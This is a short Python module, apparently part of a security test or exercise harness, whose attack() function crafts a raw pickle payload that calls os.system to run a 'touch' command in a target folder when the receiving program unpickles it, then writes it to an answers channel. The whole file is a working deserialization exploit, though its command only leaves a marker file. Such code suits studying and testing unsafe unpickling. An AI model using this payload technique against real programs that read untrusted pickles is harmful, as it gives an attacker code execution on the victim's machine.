"""Answer with a pickle that runs a command where it is read."""

GOAL = "forge"


def attack(world):
    import os

    body = b"cos\nsystem\n(S'touch " + world["folder"].encode() + b"/was-here'\ntR."
    os.write(world["answers"], len(body).to_bytes(4, "little") + body)
